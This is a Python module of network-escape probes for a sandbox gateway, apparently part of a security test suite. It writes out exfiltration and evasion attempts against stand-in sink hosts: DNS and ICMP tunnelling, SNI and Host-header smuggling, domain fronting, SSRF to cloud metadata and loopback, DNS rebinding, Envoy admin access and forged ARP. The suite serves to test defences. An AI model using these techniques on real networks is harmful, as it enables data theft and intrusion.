"""The probes of the network boundary. What is granted to each is what its call names, and nothing else.

Every program tries the plain way first: the control runs the same lines where nothing is in their way, so one of them
must get out there.
"""

from collections.abc import Callable
from typing import Final

from opensafe.proof.escape.probe import Boundary, Challenge, Severity
from opensafe.proof.world import Kind, plan
from opensafe.warden.network.firewall import RESOLVER, SPLICE

from .policy import ENDED
from .probe import Action, Evidence, NetworkProbe, Place, Scene
from .program import BEGIN
from .stage import SESSION_BYTES

_EXFIL: Final = ("T1048",)
_C2: Final = ("T1071", "T1572")
_DNS: Final = ("T1071.004", "T1048.003")
_CLOUD: Final = ("T1552.005",)
_SCAN: Final = ("T1046", "T1021")
#: NW-24: how much may be under way while a session's last byte is noticed.
_OVERSHOOT_BYTES: Final = 24 << 20
#: NW-25: what listens in a gateway: DNS, HTTP, TLS, Envoy's resolver, and whom listed pairs alone are led to.
_SERVED: Final = frozenset(map(str, (53, 80, 443, RESOLVER[1], SPLICE)))
#: NW-30: how long a connection may outlive its permission.
_REVOKED_US: Final = 2_000_000


def _dialled(evidence: Evidence, address: str, ports: tuple[int, ...] = ()) -> str:
    """The first packet to an address: none may leave, whatever became of it."""
    for packet in evidence.packets:
        if packet.target == address and (not ports or packet.port in ports):
            return f"{packet.protocol} packet to {address} port {packet.port}"
    return ""


def _said(evidence: Evidence, text: str, *kinds: Kind) -> str:
    """The first event of those kinds with a text in its name or data."""
    for event in evidence.events:
        if event.kind in kinds and (text in event.name or text.encode() in event.data):
            return f"{event.kind} {event.name or event.data[:60]!r} at {event.target}"
    return ""


def _sink(scene: Scene, evidence: Evidence) -> str:
    return _dialled(evidence, scene.sink)


def _private(scene: Scene, evidence: Evidence) -> str:
    return _dialled(evidence, scene.private)


def _asked(scene: Scene, evidence: Evidence) -> str:
    return _said(evidence, scene.nonce, Kind.QUESTION)


def _resolver(scene: Scene, evidence: Evidence) -> str:
    return _asked(scene, evidence) or _sink(scene, evidence)


def _icmp(scene: Scene, evidence: Evidence) -> str:
    for packet in evidence.packets:
        if packet.protocol == "icmp" and packet.target == scene.sink:
            return f"icmp packet to {scene.sink}, nonce in it: {scene.nonce.encode() in packet.head}"
    return ""


def _six(scene: Scene, evidence: Evidence) -> str:
    return _dialled(evidence, scene.six)


def _metadata(_: Scene, evidence: Evidence) -> str:
    return next(filter(None, (_dialled(evidence, address) for address in plan.METADATA)), "")


def _host(scene: Scene, evidence: Evidence) -> str:
    return "the host's listener got the nonce" if any(scene.nonce.encode() in data for data in evidence.host) else ""


def _hello(scene: Scene, evidence: Evidence) -> str:
    return _said(evidence, scene.nonce, Kind.HELLO)


def _fronted(scene: Scene, evidence: Evidence) -> str:
    return next(
        (f"request for {e.name}" for e in evidence.events if e.kind is Kind.REQUEST and scene.nonce in e.name), ""
    )


def _no_twin(scene: Scene, evidence: Evidence) -> str:
    twin = _said(evidence, f"/hello?twin-{scene.nonce}", Kind.REQUEST)
    return "" if twin else "no request got through where TLS ends in the gateway"


def _odd_ports(scene: Scene, evidence: Evidence) -> str:
    return _dialled(evidence, scene.sink, (0, 22, 25, 53, 6379, 9001))


def _raw(scene: Scene, evidence: Evidence) -> str:
    return _said(evidence, f"raw-{scene.nonce}", Kind.DATA)


def _doh(scene: Scene, evidence: Evidence) -> str:
    return _said(evidence, f"dns={scene.nonce}", Kind.REQUEST)


def _bulk(scene: Scene, evidence: Evidence) -> str:
    sources = {e.source for e in evidence.events if e.kind is Kind.DATA and scene.nonce.encode() in e.data}
    sizes = [e.size for e in evidence.events if e.kind is Kind.CLOSED and e.source in sources]
    most = SESSION_BYTES + _OVERSHOOT_BYTES
    return f"{max(sizes)} bytes of a budget of {SESSION_BYTES}" if sizes and max(sizes) > most else ""


def _admin(scene: Scene, evidence: Evidence) -> str:
    """A listener of the gateway's that has no business there, or an accept, in the control of what stands for it."""
    for line in evidence.gateway:
        if line.startswith("listens ") and line.rpartition(":")[2] not in _SERVED:
            return line
    return _said(evidence, f"admin-{scene.nonce}", Kind.DATA)


def _neighbour(scene: Scene, evidence: Evidence) -> str:
    forged = bytes.fromhex(_mac(scene))
    spelt = ":".join(f"{byte:02x}" for byte in forged)
    for line in evidence.gateway:
        if line.startswith("neighbour ") and spelt in line:
            return line
    return "a forged frame" if any(p.protocol == "arp" and forged in p.head for p in evidence.packets) else ""


def _mac(scene: Scene) -> str:
    return "02" + scene.nonce.encode().hex()[:10]


def _left(_: Scene, evidence: Evidence) -> str:
    return next((line for line in evidence.gateway if line.startswith("link ")), "")


def _revoked(scene: Scene, evidence: Evidence) -> str:
    for event in evidence.events:
        late = event.at_us - scene.acted_us
        if event.kind is Kind.DATA and f"tick-{scene.nonce}".encode() in event.data and late > _REVOKED_US:
            return f"bytes {late / 1e6:.1f} s after the name was taken back"
    return ""


def _not_looked(_: Scene, evidence: Evidence) -> str:
    seen = any(line.startswith("listens ") and line.endswith(":53") for line in evidence.gateway)
    return "" if seen else "the gateway's namespace was not looked into"


def _not_rebound(scene: Scene, evidence: Evidence) -> str:
    name = f"{plan.spell(scene.private, 'rebind')}.trap.test"
    asked = sum(event.kind is Kind.QUESTION and event.name == name for event in evidence.events)
    return "" if asked > 1 else f"{name} was asked for {asked} times, so it never had its other address"


def _not_sent(scene: Scene, evidence: Evidence) -> str:
    return "" if _said(evidence, f"/upload?{scene.nonce}", Kind.REQUEST) else "nothing was sent at all"


def _not_ticked(scene: Scene, evidence: Evidence) -> str:
    ticks = [e for e in evidence.events if e.kind is Kind.DATA and f"tick-{scene.nonce}".encode() in e.data]
    return "" if any(tick.at_us < scene.acted_us for tick in ticks) else "no connection was open when it was taken back"


def _network(
    id: str,  # noqa: A002 - as the field is named
    title: str,
    found: Callable[[Scene, Evidence], str],
    program: str,
    *,
    breach: str,
    attacks: tuple[str, ...] = _EXFIL,
    benchmark: tuple[Challenge, ...] = (),
    severity: Severity = Severity.EXFIL,
    control: str = "routed straight to the world",
    granted: tuple[str, ...] = (),
    place: Place = Place.PLAIN,
    action: Action = Action.NONE,
    cue: str = "",
    limit: str = "",
    missing: Callable[[Scene, Evidence], str] | None = None,
) -> NetworkProbe:
    return NetworkProbe(
        id=id,
        boundary=Boundary.NETWORK,
        title=title,
        severity=severity,
        attacks=attacks,
        benchmark=benchmark,
        breach=breach,
        control=control,
        program=program,
        found=found,
        granted=granted,
        place=place,
        action=action,
        cue=cue or BEGIN,
        limit=limit,
        missing=missing,
    )


PROBES: Final = (
    _network(
        "NW-01", "TCP straight to an address, without any proxy", _sink,
        """
for port in (80, 443, 22, 8443, 4711):
    attempt("tcp %d" % port, tcp, SINK, port, NONCE.encode())
attempt("curl", curl, "--noproxy", "*", "http://" + SINK)
""",
        breach="a packet to the sink",
    ),
    _network(
        "NW-02", "UDP to a sink, as QUIC, NTP and any", _sink,
        """
for port in (443, 123, 9999, 53):
    attempt("udp %d" % port, udp, SINK, port, NONCE.encode())
socket.socket(type=socket.SOCK_DGRAM).sendto(NONCE.encode(), (SINK, 9999))
""",
        breach="a datagram to the sink",
    ),
    _network(
        "NW-03", "ICMP echo that carries data", _icmp,
        """
packet = b"\\x08\\0" + struct.pack("!HHH", 0, 7, 1) + NONCE.encode()
packet += bytes(len(packet) % 2)
total = sum(struct.unpack("!%dH" % (len(packet) // 2), packet))
total = (total >> 16) + (total & 0xffff)
packet = packet[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + packet[4:]
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    echo = lambda: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(packet, (SINK, 0))
    attempt("icmp %d" % kind, echo)
""",
        breach="an echo request to the sink", severity=Severity.EXFIL,
    ),
    _network(
        "NW-04", "DNS to another resolver: UDP, TCP, TLS", _resolver,
        """
ask = question(NONCE + ".denied.test")
attempt("udp 53", udp, SINK, 53, ask)
attempt("udp 53 of the world's", udp, RESOLVER, 53, ask)
attempt("tcp 53", tcp, SINK, 53, struct.pack("!H", len(ask)) + ask)
attempt("tls 853", tls, SINK, "dns.test", 853, struct.pack("!H", len(ask)) + ask)
""",
        breach="the question at a name server of the world", attacks=_DNS,
    ),
    _network(
        "NW-05", "lookup of a name that is not allowed, by DNS, SNI and Host", _asked,
        """
attempt("lookup", resolve, NONCE + ".denied.test")
attempt("nested", resolve, NONCE + ".allowed.test.denied.test")
attempt("sni", lambda: tls(front(), NONCE + "s.denied.test"))
attempt("host", lambda: http(front(), NONCE + "h.denied.test"))
attempt("txt", lambda: udp(gateway(), 53, question(NONCE + ".denied.test", 16)))
""",
        breach="the name in the authoritative server's log", attacks=_DNS,
    ),
    _network(
        "NW-06", "DNS over HTTPS at an allowed host", _doh,
        """
attempt("doh", fetch_tls, "allowed.test", "/dns-query?dns=" + NONCE)
""",
        breach="the question at the allowed front", attacks=("T1572", "T1071.004"),
        limit="what is asked inside TLS that is passed through can't be seen; end it (NW-06t), or allow no such host",
    ),
    _network(
        "NW-06t", "DNS over HTTPS at an allowed host whose TLS ends in the gateway", _doh,
        """
attempt("twin", fetch_ended, "/hello?twin-" + NONCE)
attempt("doh", fetch_ended, "/dns-query?dns=" + NONCE)
""",
        breach="the question at the allowed front", attacks=("T1572", "T1071.004"), granted=(ENDED,), missing=_no_twin,
    ),
    _network(
        "NW-07", "IPv6: global, by name, mapped, multicast", _six,
        """
attempt("tcp", tcp, SIX, 80, NONCE.encode())
attempt("udp", lambda: udp(SIX, 9999, NONCE.encode(), socket.AF_INET6))
everybody = ("ff02::1", 9999, 0, 1)
attempt("scope", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(NONCE.encode(), everybody))
attempt("mapped", tcp, "::ffff:" + SINK, 80, NONCE.encode())
""",
        breach="an IPv6 packet to the sink",
    ),
    _network(
        "NW-09", "addresses in decimal, octal, hexadecimal and short forms", _private,
        """
parts = [int(part) for part in PRIVATE.split(".")]
number = int.from_bytes(bytes(parts), "big")
forms = ["%d" % number, "0x%x" % number, "0%o.%d.%d.%d" % tuple(parts), "%d.%d" % (parts[0], number & 0xffffff)]
forms.append("[::ffff:" + PRIVATE + "]")
for form in forms:
    attempt("socket " + form, lambda: tcp(resolve(form.strip("[]")), 80, NONCE.encode()))
    attempt("host " + form, lambda: http(front(), form))
    attempt("uri " + form, absolute, form)
    attempt("sni " + form, lambda: tls(front(), form))
""",
        breach="a packet to the private sink", severity=Severity.LATERAL, attacks=_SCAN,
    ),
    _network(
        "NW-10", "cloud metadata by address and by name", _metadata,
        """
for address in METADATA:
    attempt("tcp " + address, tcp, address, 80, NONCE.encode())
    attempt("host " + address, lambda: http(front(), address))
for name in ("metadata.google.internal", "metadata.test", "ip-169-254-169-254.trap.test"):
    attempt("name " + name, fetch, name)
    attempt("host " + name, lambda: http(front(), name))
""",
        breach="a packet to a metadata address", severity=Severity.HOST_LEAK, attacks=_CLOUD,
        granted=("ip-169-254-169-254.trap.test",),
    ),
    _network(
        "NW-11", "the host's loopback, its addresses and its daemon", _host,
        """
places = ["127.0.0.1", "0.0.0.0", HOST, "10.202.0.1", gateway(), "host.docker.internal", "localhost"]
for place in places:
    attempt("tcp " + place, tcp, place, PORT, NONCE.encode())
    attempt("host " + place, lambda: http(front(), "%s:%d" % (place, PORT), "/" + NONCE))
""",
        breach="an accept of the host's listener with the nonce", severity=Severity.ESCAPE, attacks=_SCAN,
        benchmark=("k8s_route_localnet",), control="in the host's own network namespace", place=Place.HOST,
    ),
    _network(
        "NW-12", "an allowed name that has, gets or hides a private address", _private,
        """
for kind, turns in (("ip", 2), ("mixed", 2), ("dead", 2), ("rebind", 8)):
    for turn in range(turns):
        name = kind + "-" + PRIVATE_LABEL + ".trap.test"
        time.sleep(1.5 if turns > 2 else 0)
        attempt("http " + name, fetch, name)
        attempt("tls " + name, fetch_tls, name)
""",
        breach="a packet to the private sink", severity=Severity.LATERAL, attacks=_SCAN,
        granted=tuple(kind + "-{private}.trap.test" for kind in ("ip", "mixed", "dead", "rebind")),
        missing=_not_rebound,
    ),
    _network(
        "NW-14", "CONNECT to an allowed name, another name inside", _hello,
        """
attempt("sni", lambda: tls(SINK, NONCE + ".denied.test"))
attempt("sni at the allowed one", lambda: tls(front(), NONCE + ".denied.test"))
def tunnel():
    with connect(front(), 80) as peer:
        peer.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n")
        answer = peer.recv(400)
        return answer[:20] if b" 200 " not in answer[:15] else wrap(peer, NONCE + ".denied.test").version()
attempt("connect", tunnel)
""",
        breach="a handshake with the name that is not allowed", attacks=_C2,
    ),
    _network(
        "NW-15", "an allowed name in the handshake, another in the request (fronting)", _fronted,
        """
attempt("fronted", lambda: tls(front(), "allowed.test", data=request(NONCE + ".denied.test")))
""",
        breach="the request for the other name", attacks=("T1090.004",),
        limit="inside TLS that is passed through the request can't be seen; end it (NW-15t)",
    ),
    _network(
        "NW-15t", "the same fronting at a host whose TLS ends in the gateway", _fronted,
        """
attempt("twin", fetch_ended, "/hello?twin-" + NONCE)
attempt("fronted", fetch_ended, "/hello", NONCE + ".denied.test")
""",
        breach="the request for the other name", attacks=("T1090.004",), granted=(ENDED,), missing=_no_twin,
    ),
    _network(
        "NW-17", "odd ports of an allowed name: CONNECT, Host, straight", _odd_ports,
        """
name = SINK_LABEL + ".trap.test"
for port in ("22", "25", "53", "6379", "9001", "0", "65536", ""):
    attempt("connect " + port, lambda: tcp(front(), 80, request(name, name + ":" + port, method="CONNECT"))[:20])
    attempt("host " + port, lambda: http(front(), name + ":" + port))
    if port not in ("", "65536"):
        attempt("straight " + port, lambda: tcp(resolve(name), int(port), NONCE.encode()))
""",
        breach="a packet to the name's address on such a port", attacks=_C2, granted=("{sink}.trap.test",),
    ),
    _network(
        "NW-19", "Host texts that parsers read differently", _sink,
        """
denied = SINK_LABEL + ".denied.test"
attempt("plain", fetch, denied)
forms = [
    "allowed.test@" + denied, "allowed.test:80@" + denied, denied + "#allowed.test", denied + "?allowed.test",
    denied + "\\\\allowed.test", denied + "%00.allowed.test", denied + "\\x00allowed.test", "allowed.test\\t" + denied,
    "allowed.test " + denied, "allowed.test, " + denied, "allowed.test\\r\\nHost: " + denied,
    denied + ".", denied + "..", denied.upper(), "xn--" + denied, denied.replace("e", "\\xe9"),
]
for form in forms:
    attempt("host " + repr(form), lambda: http(front(), form))
    attempt("uri " + repr(form), absolute, form)
    attempt("sni " + repr(form), lambda: tls(front(), form))
""",
        breach="a packet to the other host", attacks=_C2,
    ),
    _network(
        "NW-20", "names like an allowed one: suffix, apex, deeper", _resolver,
        """
names = [NONCE + "allowed.test", NONCE + ".allowed.test", NONCE + ".nottrap.test", "allowed.test." + NONCE + ".test"]
for name in (*names, SINK_LABEL + ".nottrap.test", SINK_LABEL + ".allowed.test"):
    attempt("lookup " + name, resolve, name)
    attempt("http " + name, fetch, name)
    attempt("host " + name, lambda: http(front(), name))
    attempt("sni " + name, lambda: tls(front(), name))
""",
        breach="a question for such a name, or a packet to the sink", attacks=_C2,
    ),
    _network(
        "NW-21", "a redirect from an allowed host to one that is not, and to a private address", _private,
        """
label = "ip-" + PRIVATE_LABEL
for host in (PRIVATE, label + ".denied.test", label + ".trap.test"):
    attempt("redirect to " + host, curl, "-L", "http://allowed.test/redirect?http://" + host + "/hello")
    attempt("straight to " + host, fetch, host)
""",
        breach="a packet to the private sink", severity=Severity.LATERAL, attacks=_SCAN,
    ),
    _network(
        "NW-23", "an upgrade to WebSocket or h2c, then bytes that are no HTTP", _raw,
        """
def upgrade(field, more):
    with connect(front(), 80) as peer:
        peer.sendall(request("allowed.test", "/", "Upgrade: " + field + "\\r\\n" + more).replace(b"close", b"Upgrade"))
        answer = peer.recv(200)
        peer.sendall(b"\\x82\\x7e\\0\\x40" + ("raw-" + NONCE).encode().ljust(64))
        peer.settimeout(WAIT / 3)
        try:
            return answer[:16], peer.recv(200)[:16]
        except socket.timeout:
            return answer[:16]
key = "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
attempt("websocket", upgrade, "websocket", key)
attempt("h2c", upgrade, "h2c", "HTTP2-Settings: AAMAAABkAAQAAP__\\r\\n")
attempt("h2 preface", lambda: tcp(front(), 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nraw-" + NONCE.encode()))
""",
        breach="the bytes at the server", attacks=_C2,
    ),
    _network(
        "NW-24", "more data to an allowed host than the session may send", _bulk,
        """
def pour():
    block, sent = bytes(1 << 20), 0
    with connect(front(), 443) as peer, wrap(peer, "allowed.test") as inner:
        inner.settimeout(10)
        more = "Content-Length: %d\\r\\n" % (64 << 20)
        inner.sendall(request("allowed.test", "/upload?" + NONCE, more, "PUT"))
        for _ in range(64):
            inner.sendall(block)
            sent += len(block)
            time.sleep(0.05)
    return sent
attempt("pour", pour)
""",
        breach="more bytes at the server than the budget and what was under way", missing=_not_sent,
    ),
    _network(
        "NW-25", "the gateway's own ports: administration and configuration of Envoy", _admin,
        """
for port in (9901, 15001, 15000, 8001, 10000, 5353, 8443, 15432):
    attempt("tcp %d" % port, tcp, gateway(), port, ("admin-" + NONCE).encode())
for path in ("/config_dump", "/quitquitquit"):
    attempt("host " + path, lambda: http(gateway(), "127.0.0.1:9901", path))
""",
        breach="a listener in the gateway that has no business there; or an accept", severity=Severity.ESCAPE,
        attacks=_SCAN, missing=_not_looked,
    ),
    _network(
        "NW-26", "the proxy is killed in the middle of a call", _sink,
        """
end = time.monotonic() + 3
while time.monotonic() < end:
    attempt("tcp", tcp, SINK, 443, NONCE.encode())
    attempt("udp", udp, SINK, 9999, NONCE.encode())
    attempt("sni", lambda: tls(ALLOWED, "allowed.test"))
    attempt("host", lambda: http(front(), SINK_LABEL + ".denied.test"))
    time.sleep(0.05)
""",
        breach="a packet to the sink", action=Action.KILL_ENVOY,
    ),
    _network(
        "NW-28", "forged ARP, and raw frames on the link", _neighbour,
        """
mac = bytes.fromhex("02" + NONCE.encode().hex()[:10])
def forge():
    name = [name for _, name in socket.if_nameindex() if name != "lo"][0]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0806) as link:
        link.bind((name, 0x0806))
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(gateway())
        body += bytes(6) + socket.inet_aton(SINK)
        return link.send(b"\\xff" * 6 + mac + b"\\x08\\x06" + body)
attempt("arp", forge)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
""",
        breach="the forged address among the gateway's neighbours, or the frame", severity=Severity.PEER_DOS,
        attacks=("T1557.002", "T1040"), missing=_not_looked,
    ),
    _network(
        "NW-29", "what stays of a sandbox that is gone: its link, its routes", _left,
        """
attempt("fetch", fetch, "allowed.test")
time.sleep(3)  # the host looks at the link meanwhile
""",
        breach="a link of the gateway's to a sandbox that is deleted", severity=Severity.LATERAL, attacks=_SCAN,
        control="the world's link, which is still in use", action=Action.DELETE, missing=_not_looked,
    ),
    _network(
        "NW-30", "a name is taken back while a connection to it is open", _revoked,
        """
def tick():
    name = SINK_LABEL + ".trap.test"
    with connect(resolve(name), 443) as peer, wrap(peer, name) as inner:
        end = time.monotonic() + 8
        while time.monotonic() < end:
            inner.sendall(("tick-" + NONCE + "\\r\\n").encode())
            time.sleep(0.1)
attempt("tick", tick)
""",
        breach="bytes more than two seconds after", granted=("{sink}.trap.test",), action=Action.REVOKE, cue="tick-",
        control="nothing is taken back", missing=_not_ticked,
    ),
)  # fmt: skip
